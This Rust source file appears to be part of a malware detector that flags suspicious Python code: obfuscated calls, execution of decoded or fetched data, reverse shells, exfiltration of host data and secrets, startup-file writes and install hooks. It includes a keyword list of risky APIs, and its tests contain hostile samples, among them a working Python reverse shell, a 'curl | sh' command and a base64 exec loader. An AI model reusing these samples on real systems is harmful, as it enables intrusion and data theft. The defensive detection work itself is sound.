//! What a file of Python does with what it decodes, fetches or reads of a machine, wherever that goes before it is done, and
//! by whatever way a function is named. What follows values is `python_code::reach`; here is what they mean, and what is told.

mod commands;
mod marks;
mod near;
mod vocabulary;

use std::collections::BTreeSet;

use bartizan_formats::python_code::reach::{self, Deed, Reach, Way};

use self::near::Near;
use self::vocabulary::{DECODED, FETCHED, HOST, MACHINE, SECRET, USER, Words};
use super::Subject;
use crate::{
    kind::Language,
    lines::{cut, numbered, squeezed},
    rule::is_like,
    sighting::Seen,
};

/// Words of which one stands in every file that is looked at closely.
const WORDS: [&str; 41] = [
    "exec",
    "eval",
    "system",
    "popen",
    "subprocess",
    "socket",
    "urlopen",
    "urlretrieve",
    "requests",
    "httpx",
    "aiohttp",
    "environ",
    "getenv",
    "b64decode",
    "unhexlify",
    "fromhex",
    "decompress",
    "marshal",
    "__import__",
    "import_module",
    "getattr",
    "__dict__",
    "clipboard",
    "screenshot",
    "pyperclip",
    "ImageGrab",
    "pynput",
    "pty.",
    "/.",
    "://",
    "\\\\",
    "sys.modules",
    "base64",
    // What begins with `import` and `http` in base64.
    "aW1wb3",
    "aHR0c",
    "globals(",
    "locals(",
    ".aws",
    ".ssh",
    ".exe",
    "token",
];

/// How many sightings of one file are told.
const MOST_TOLD: usize = 300;

pub(super) fn see(subject: &Subject<'_>, seen: &mut Vec<Seen>) {
    let Some(text) = subject
        .text
        .filter(|_| subject.language == Language::Python)
    else {
        return;
    };
    let is_ascii = text.is_ascii();
    if is_ascii && !WORDS.iter().any(|it| text.contains(it)) {
        return;
    }
    // What is too large or too deep has no tree; it is told as minified, where it is that.
    let Ok(reach) = reach::read(text, &Words) else {
        return;
    };
    let mut teller = Teller {
        lines: numbered(text).map(|(_, line)| line).collect(),
        near: Near::of(&reach.deeds),
        reach: &reach,
        known: BTreeSet::new(),
        hidden: BTreeSet::new(),
        seen: Vec::new(),
    };
    for deed in &reach.deeds {
        teller.of_deed(deed);
    }
    teller.of_texts();
    seen.append(&mut teller.seen);
}

struct Teller<'a> {
    lines: Vec<&'a str>,
    reach: &'a Reach,
    near: Near<'a>,
    /// What was told, by rule, function and what it says: where lines break says nothing.
    known: BTreeSet<(&'static str, String, String)>,
    /// Functions that are called by a way that hides their names, with where.
    hidden: BTreeSet<(&'a str, &'a str)>,
    seen: Vec<Seen>,
}

/// Whether a deed is one of these.
fn is_any(deed: &Deed, functions: &[&str]) -> bool {
    functions.iter().any(|it| is_like(&deed.function, it))
}

impl<'a> Teller<'a> {
    /// Tells something of a function once.
    fn tell(
        &mut self,
        rule: &'static str,
        (line, within): (u32, &str),
        snippet: &str,
        message: String,
    ) {
        let snippet = cut(&squeezed(snippet), 300).to_owned();
        let key = (rule, within.to_owned(), snippet.clone());
        if self.seen.len() >= MOST_TOLD || !self.known.insert(key) {
            return;
        }
        let mut it = Seen::new(rule, Some(line), &snippet, message);
        within.clone_into(&mut it.within);
        self.seen.push(it);
    }

    fn tell_deed(&mut self, rule: &'static str, deed: &Deed, why: &str) {
        let function = cut(&deed.function, 100);
        let message = format!("`{function}` {why}");
        self.tell(rule, (deed.line, &deed.within), &deed.written, message);
    }

    fn of_deed(&mut self, deed: &'a Deed) {
        let runs_code = is_any(deed, &vocabulary::RUNS_CODE);
        let runs_program = is_any(deed, &vocabulary::RUNS_PROGRAM);
        let sends = is_any(deed, &vocabulary::SENDS);
        if deed.way != Way::Plain && (runs_code || runs_program) {
            let name = deed.function.rsplit('.').next().unwrap_or_default();
            self.hidden.insert((&deed.within, name));
            self.tell_deed(
                "hidden-call",
                deed,
                "is called by a way that hides its name",
            );
        } else if deed.way == Way::Pieces && is_any(deed, &vocabulary::NAMED_SO) {
            self.tell_deed(
                "hidden-call",
                deed,
                "is called, and its name is put together",
            );
        }
        self.of_data(deed, runs_code, runs_program);
        if sends {
            self.of_sending(deed);
        }
        if runs_program {
            if let Some(what) = commands::is_of_strangers(deed) {
                self.tell_deed("foreign-command", deed, what);
            }
            if commands::is_silent(deed) {
                let why = "starts something that says nothing, and goes on without it";
                self.tell_deed("silent-program", deed, why);
            }
        }
        if is_any(deed, &vocabulary::WATCHES) {
            self.tell_deed(
                "watched-person",
                deed,
                "reads what somebody copies, types or sees",
            );
        }
        if let Some(name) = commands::program_of_windows(deed) {
            let why = format!("fetches or writes a program, `{}`", cut(name, 80));
            self.tell_deed("foreign-program", deed, &why);
        }
        if self.is_shell_of_strangers(deed) {
            self.tell_deed("reverse-shell", deed, "hands a shell to a connection");
        }
        if self.acts_when_installed(deed, runs_code || runs_program) {
            let why = "acts in a command of an installation";
            self.tell_deed("install-hook", deed, why);
        }
    }

    /// Data that becomes code, at once or by way of a file.
    fn of_data(&mut self, deed: &Deed, runs_code: bool, runs_program: bool) {
        let comes = deed.reaches | deed.direct;
        if (runs_code && comes & (DECODED | FETCHED) != 0) || (runs_program && comes & DECODED != 0)
        {
            let why = "runs what was decoded or fetched before";
            self.tell_deed("run-of-hidden-data", deed, why);
            return;
        }
        if !(runs_code || runs_program) {
            return;
        }
        if self.near.around(deed.line, &deed.within).writes_decoded {
            let why = "runs something beside a file that is written of decoded data";
            self.tell_deed("run-of-hidden-data", deed, why);
        }
    }

    fn of_sending(&mut self, deed: &Deed) {
        let kinds = [HOST, USER, MACHINE]
            .iter()
            .filter(|it| deed.reaches & **it != 0);
        if kinds.count() > 1 {
            let why = "is given what tells a machine and who works on it";
            self.tell_deed("sent-host", deed, why);
        }
        if deed.reaches & SECRET != 0 {
            let why = "is given the environment, files with keys, or what somebody copied or saw";
            self.tell_deed("sent-secret-data", deed, why);
        }
        if let Some(address) = deed.texts.iter().find_map(|it| marks::stranger(it, true)) {
            let why = format!("reaches `{}`", cut(address, 80));
            self.tell_deed("stranger-address", deed, &why);
        }
    }

    fn is_shell_of_strangers(&self, deed: &Deed) -> bool {
        let shell = || deed.texts.iter().any(|it| commands::is_shell(it));
        if deed.function == "pty.spawn" {
            return shell();
        }
        let starts =
            deed.function == "os.dup2" || (is_any(deed, &vocabulary::RUNS_PROGRAM) && shell());
        let near = self.near.around(deed.line, &deed.within);
        starts && near.connects && near.duplicates > 1
    }

    /// Whether a deed stands in a class of a command of an installation.
    fn acts_when_installed(&self, deed: &Deed, runs: bool) -> bool {
        let class = deed.within.split('.').next().unwrap_or_default();
        let Some(bases) = self.reach.classes.get(class) else {
            return false;
        };
        let is_of = |commands: &[&str]| {
            bases.iter().any(|it| {
                let name = it.rsplit('.').next().unwrap_or(it);
                commands.contains(&name)
            })
        };
        let reaches = is_any(deed, &vocabulary::SENDS) || is_any(deed, &vocabulary::FETCHES);
        let starts = deed.function.contains("ShellExecute");
        (is_of(&vocabulary::INSTALLS) && (runs || reaches || starts))
            || (is_of(&vocabulary::BUILDS) && reaches)
    }

    fn of_texts(&mut self) {
        let reach = self.reach;
        for text in &reach.texts {
            // The call that is named so was told.
            if self.hidden.contains(&(&text.within, &text.text)) {
                continue;
            }
            let line = self.lines.get(text.line.saturating_sub(1) as usize);
            let line = line.copied().unwrap_or_default();
            if let Some(what) = marks::of(&text.text, line) {
                let rule = what.rule();
                let snippet = cut(&text.text, 200).to_owned();
                self.tell(rule, (text.line, &text.within), &snippet, what.message());
            }
            if marks::is_of_start(&text.text) && self.near.around(text.line, &text.within).writes {
                let message =
                    "this is read at every start, and something is written to it or beside it";
                let snippet = cut(&text.text, 200).to_owned();
                self.tell(
                    "written-start",
                    (text.line, &text.within),
                    &snippet,
                    message.to_owned(),
                );
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::detect::laboratory::{place, seen};

    fn check(text: &str) -> String {
        let seen = seen("src/a.py", text, see);
        seen.iter().map(place).collect::<Vec<_>>().join(" ")
    }

    #[test]
    fn what_is_told() {
        let told = [
            (
                "import os\ngetattr(os, 'sys' + 'tem')('ls')\n",
                "hidden-call@2",
            ),
            (
                "import base64\nx = base64.b64decode(y)\nexec(x)\n",
                "run-of-hidden-data@3",
            ),
            (
                "import os, pty, socket\ndef f(a):\n    s = socket.socket()\n    s.connect(a)\n    for n in (0, 1):\n        os.dup2(s.fileno(), 0)\n        os.dup2(s.fileno(), 1)\n    pty.spawn('/bin/sh')\n",
                "reverse-shell@6 reverse-shell@7 reverse-shell@8",
            ),
            (
                "import getpass, requests, socket\nd = {'a': getpass.getuser(), 'b': socket.gethostname()}\nrequests.post(u, json=d)\n",
                "sent-host@3",
            ),
            (
                "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')\n",
                "written-start@2",
            ),
            (
                "import os\np = os.path.join('~/.ssh', 'id_rsa')\n",
                "named-keys@2",
            ),
            (
                "import subprocess\nsubprocess.run(['bash', '-c', 'curl u | sh'])\n",
                "foreign-command@2",
            ),
            (
                "x = 'aW1wb3J0IG9zCm9zLnN5c3RlbSgnbHMnKQ=='\ny = exec\n",
                "hidden-code@1",
            ),
        ];
        for (text, expect) in told {
            assert_eq!(check(text), expect, "{text}");
        }
    }

    #[test]
    fn what_is_not() {
        let quiet = [
            "import os, requests\nrequests.post(u, headers={'A': os.environ['GITHUB_TOKEN']})\n",
            "import subprocess\nrun = subprocess.run\nrun(['make'], env=e)\n",
            "getattr(np, 'lin' + 'space')(1)\n",
            "'''~/.bashrc'''\nopen(p, 'w').write('x')\n",
            "import base64\nx = base64.b64decode(y)\nmodel.eval(x)\n",
            "import os, subprocess\nsubprocess.run(['make'], env=dict(os.environ))\n",
            "os.dup2(1, 2)\n",
        ];
        for text in quiet {
            assert_eq!(check(text), "", "{text}");
        }
    }

    proptest! {
        #[test]
        fn never_panics(text in "([a-z(),.='\n ]|os.environ|urlopen|exec|base64.b64decode|é){0,60}") {
            check(&text);
        }
    }
}
